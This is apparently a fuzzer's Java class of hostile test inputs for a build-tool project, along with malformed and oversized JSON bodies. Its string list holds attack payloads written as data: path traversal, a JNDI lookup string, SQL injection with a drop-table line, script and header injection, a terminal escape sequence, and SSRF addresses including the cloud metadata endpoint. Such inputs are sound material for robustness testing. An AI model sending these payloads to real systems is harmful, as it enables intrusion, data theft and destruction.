package org.wvwbuilder.tools.fuzzer;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;

/** Values that broke programs before. */
final class Hostile {
    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\0",
            "null",
            "undefined",
            "-1",
            "0",
            "9223372036854775808",
            "1e400",
            "NaN",
            "..",
            "../../../../etc/hostname",
            "..\\..\\windows\\win.ini",
            "/",
            "%00",
            "%2e%2e%2f",
            "%s%n%x",
            "${jndi:ldap://x.invalid/a}",
            "{{7*7}}",
            "' or '1'='1",
            "\"; drop table builds; --",
            "% _ \\ ' \"",
            "<script>alert(1)</script>",
            "\r\nX-Injected: yes",
            "a\nb\tc\u000bd",
            "\u001b]52;c;YQ==\u0007",
            "\u202egnp.exe",
            "\u2028\u2029",
            "\ufeff",
            "\ud83d\ude00".repeat(64),
            "e\u0301".repeat(40),
            "\u0130\u0131\u00df\ufb03",
            "\ud800",
            "*",
            "a AND b OR NOT",
            "\"unclosed",
            "(((((((((((",
            "a".repeat(255),
            "a".repeat(257),
            "x".repeat(5_000),
            "[&DQYfLSkaOCcXAXQANRfLAL4BjwBOARwBlwCWAAAAAAAAAAAAAAAAAAAAAAA]",
            "[&" + "A".repeat(2_000) + "=]",
            "2026-02-30T25:61:61Z",
            "+999999999-12-31T23:59:59.999999999Z",
            "-1000000000-01-01T00:00:00Z",
            "0000-00-00",
            "P999999999999D",
            "http://127.0.0.1:22/",
            "http://[::ffff:169.254.169.254]/",
            "https://user:pass@x.invalid:99999/",
            "javascript:alert(1)",
            "00000000-0000-0000-0000-000000000000");

    private static final List<String> NUMBERS = List.of(
            "0",
            "-0",
            "-1",
            "1",
            "127",
            "128",
            "255",
            "256",
            "65535",
            "65536",
            "2147483647",
            "2147483648",
            "-2147483648",
            "-2147483649",
            "9007199254740993",
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775808",
            "99999999999999999999999999999999",
            "0.1",
            "-0.5",
            "1.0",
            "1e2",
            "1e308",
            "1e400",
            "-1e400",
            "1e-400");

    private Hostile() {}

    static String text(Dice dice) {
        return dice.pick(TEXTS);
    }

    /** As JSON writes it. */
    static String number(Dice dice) {
        return dice.pick(NUMBERS);
    }

    /** A body that is broken as a whole. */
    static byte[] body(Dice dice, byte[] good) {
        return switch (dice.below(12)) {
            case 0 -> new byte[0];
            case 1 -> Arrays.copyOf(good, good.length / 2);
            case 2 -> bytes("[".repeat(5_000));
            case 3 -> bytes("{\"a\":".repeat(200) + "1" + "}".repeat(200));
            case 4 -> bytes("null");
            case 5 -> bytes("[" + "1,".repeat(200_000) + "1]");
            case 6 -> flip(dice, good);
            case 7 -> bytes("{\"name\": \"" + "x".repeat(300_000) + "\"}");
            case 8 -> joined(new byte[] {(byte) 0xef, (byte) 0xbb, (byte) 0xbf}, good);
            case 9 -> joined(good, good);
            case 10 -> new byte[] {0x1f, (byte) 0x8b, 8, 0, 0, 0, 0, 0, 0, 3};
            default -> bytes(dice.oneOf("\"\\ud800\"", "1e99999", "nan", "{\"a\":1,\"a\":2}", "true", "{}", "[]"));
        };
    }

    private static byte[] flip(Dice dice, byte[] good) {
        if (good.length == 0) return new byte[] {(byte) 0xff};
        var flipped = good.clone();
        for (int i = 0; i < 3; i++) flipped[dice.below(flipped.length)] = (byte) dice.below(256);
        return flipped;
    }

    private static byte[] joined(byte[] first, byte[] second) {
        var both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
